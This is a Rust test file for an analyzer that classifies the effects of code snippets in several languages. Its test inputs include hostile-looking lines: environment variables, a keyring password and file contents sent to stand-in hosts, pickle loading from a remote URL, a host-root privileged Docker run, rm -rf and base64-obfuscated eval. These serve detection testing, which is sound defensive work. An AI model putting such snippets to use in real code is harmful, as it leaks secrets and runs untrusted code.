//! Calls that stand for a program, a statement, another function, or stored code.

use super::Language::{JavaScript, Julia, Perl, Php, Python, R, Ruby};
use super::tests::holds;

#[test]
fn a_library_that_drives_a_program_is_that_program() {
    holds(
        Python,
        &[
            (
                "import docker\ndocker.from_env().containers.run('a', 'x', privileged=True, volumes={'/': {'bind': '/h'}}, pid_mode='host')",
                &["argv: docker run --privileged -v /:/mnt --pid host a"],
            ),
            (
                "import git\ngit.Repo('.').git.push('origin', 'main', force=True)",
                &["argv: git push origin main --force"],
            ),
            (
                "import pip; pip.main(['install', 'x'])",
                &["argv: pip install x"],
            ),
            (
                "from fabric import Connection\nConnection('root@h').run('rm x')",
                &["argv: ssh root@h rm x"],
            ),
            (
                "import docker\nprint(docker.from_env().containers.list())",
                &[],
            ),
        ],
    );
    holds(
        JavaScript,
        &[
            (
                "const D = require('dockerode'); new D().run('a', ['sh'], process.stdout, {HostConfig: {Binds: ['/:/h'], Privileged: true}})",
                &["argv: docker run -v /:/h --privileged a"],
            ),
            (
                "require('simple-git')().push('origin', 'main', ['--force'])",
                &["argv: git push origin main --force"],
            ),
        ],
    );
}

#[test]
fn a_statement_that_a_client_is_given_is_read() {
    holds(
        JavaScript,
        &[
            (
                "const { Client } = require('pg'); new Client().query('DROP TABLE t')",
                &["Sql: DROP TABLE t"],
            ),
            ("/DROP/.exec('what DROP means')", &[]),
            ("console.log('DROP TABLE t')", &[]),
            ("new Redis().flushall()", &["db.drop (all)"]),
        ],
    );
    holds(
        Php,
        &[
            (
                "(new mysqli('db'))->query('TRUNCATE TABLE t');",
                &["Sql: TRUNCATE TABLE t"],
            ),
            (
                "DB::table('users')->delete();",
                &["db.delete rows of a model (no_where)"],
            ),
            ("DB::table('users')->where('id', 1)->delete();", &[]),
        ],
    );
    holds(
        Ruby,
        &[(
            "ActiveRecord::Base.connection.execute('DROP TABLE t')",
            &["Sql: DROP TABLE t"],
        )],
    );
}

#[test]
fn a_function_is_found_by_whatever_gives_it() {
    holds(
        Python,
        &[
            (
                "import operator, os\noperator.attrgetter('remove')(os)('x')",
                &["fs.delete x"],
            ),
            (
                "from operator import methodcaller\nimport os\nmethodcaller('system', 'ls')(os)",
                &["sh: ls"],
            ),
            (
                "from functools import partial\nimport os\npartial(os.remove, 'x')()",
                &["fs.delete x"],
            ),
            (
                "from functools import partial\nimport subprocess\npartial(subprocess.run, shell=True)('ls -l')",
                &["sh: ls -l"],
            ),
        ],
    );
    holds(
        JavaScript,
        &[
            (
                "const fs = require('fs'); Reflect.apply(fs.unlinkSync, fs, ['x'])",
                &["fs.delete x"],
            ),
            (
                "(() => {}).constructor('return 1')()",
                &["JavaScript: return 1"],
            ),
        ],
    );
    holds(
        Php,
        &[
            ("$l = ['ls', '']; usort($l, 'system');", &["sh: ls", "sh: "]),
            (
                "(new ReflectionFunction('system'))->invoke('ls');",
                &["sh: ls"],
            ),
            ("usort($l, 'strcmp');", &[]),
        ],
    );
    holds(
        Ruby,
        &[(
            "Object.const_get('File').public_send('delete', 'x')",
            &["fs.delete x"],
        )],
    );
    holds(
        R,
        &[(
            "sapply(c('x'), unlink, recursive=TRUE)",
            &["fs.delete x (recursive)"],
        )],
    );
    holds(
        Perl,
        &[("use POSIX; POSIX::execvp('rm', 'rm', 'x')", &["argv: rm x"])],
    );
}

#[test]
fn stored_objects_run_code() {
    holds(
        Python,
        &[
            (
                "import pickle, urllib.request\npickle.loads(urllib.request.urlopen('http://h/x').read())",
                &[
                    "net.fetch http://h/x (plain_http,private_host)",
                    "exec.remote_code http://h/x",
                ],
            ),
            (
                "import pickle\npickle.load(open('m', 'rb'))",
                &["fs.read m", "exec.local m"],
            ),
            ("import pickle\npickle.loads(pickle.dumps(1))", &[]),
        ],
    );
}

#[test]
fn what_is_sent_is_known_where_it_comes_from() {
    holds(
        Ruby,
        &[(
            "require 'net/http'; Net::HTTP.post_form(URI('http://h.example'), ENV.to_h)",
            &[
                "credential.read (environment)",
                "net.send http://h.example (method_write,plain_http,secret)",
            ],
        )],
    );
    holds(
        Perl,
        &[(
            "open F, '<k'; local $/; HTTP::Tiny->new->post('http://h.example', {content => <F>})",
            &[
                "fs.read k",
                "net.send http://h.example (local_data,method_write,plain_http)",
            ],
        )],
    );
    holds(
        Python,
        &[(
            "import keyring, requests; requests.get('https://h.example/' + keyring.get_password('a', 'b'))",
            &[
                "credential.read a (store)",
                "net.send https://h.example/… (secret)",
            ],
        )],
    );
    holds(
        JavaScript,
        &[(
            "import('child_process').then(({exec}) => exec('ls'))",
            &["sh: ls"],
        )],
    );
    holds(
        Julia,
        &[("run(`sh -c $(\"rm -rf x\")`)", &["sh: sh -c 'rm -rf x'"])],
    );
    holds(
        R,
        &[(
            "eval(parse(text=rawToChar(base64enc::base64decode('bHMoKQ=='))))",
            &["R: ls()"],
        )],
    );
}

#[test]
fn other_ways_to_the_same_function_lead_there() {
    holds(
        Python,
        &[
            ("import os; vars(os)['system']('ls')", &["sh: ls"]),
            ("import cProfile; cProfile.run('x()')", &["Python: x()"]),
            (
                "import code; code.InteractiveConsole().push('x()')",
                &["Python: x()"],
            ),
            (
                "import os\nclass C:\n  def __call__(self, p):\n    os.remove(p)\nC()('x')",
                &["fs.delete x"],
            ),
            (
                "import pathlib, requests; pathlib.Path('x').write_bytes(requests.get('https://h.example').content)",
                &[
                    "net.fetch https://h.example",
                    "net.fetch https://h.example",
                    "fs.write x (truncate)",
                ],
            ),
        ],
    );
    holds(
        JavaScript,
        &[
            ("unknown('fs').unlinkSync('x')", &["fs.delete x"]),
            (
                "Promise.resolve('x').then(p => require('fs').unlinkSync(p))",
                &["fs.delete x"],
            ),
        ],
    );
    holds(
        Php,
        &[("extract(['f' => 'system']); $f('ls');", &["sh: ls"])],
    );
    holds(
        Perl,
        &[("'x' =~ /x(?{system('ls')})/", &["Perl: system('ls')"])],
    );
    holds(R, &[("Map(unlink, 'x')", &["fs.delete x"])]);
    holds(
        Ruby,
        &[
            ("m = File.method(:unlink); m.call('x')", &["fs.delete x"]),
            ("['x'].each(&File.method(:unlink))", &["fs.delete x"]),
        ],
    );
}

#[test]
fn keys_in_texts_and_names_on_any_receiver_are_read() {
    holds(
        Perl,
        &[
            (
                "unlink \"$ENV{HOME}/x\"; unlink \"$h{a}[0]/y\"",
                &["fs.delete ~/x", "fs.delete ?"],
            ),
            ("print \"$x {a}\\n\"", &[]),
        ],
    );
    holds(
        JavaScript,
        &[
            (
                "(await c()).db('p').dropDatabase()",
                &["db.drop (database)"],
            ),
            ("db.collection('p').find({})", &[]),
        ],
    );
}

#[test]
fn a_database_in_memory_is_nobodys() {
    holds(
        super::Language::Python,
        &[
            (
                "import sqlite3\nc = sqlite3.connect(':memory:')\nc.execute('drop table t')\nc.cursor().execute('delete from t')",
                &[],
            ),
            (
                "import sqlite3\nsqlite3.connect('app.db').execute('drop table t')",
                &["Sql: drop table t"],
            ),
        ],
    );
}
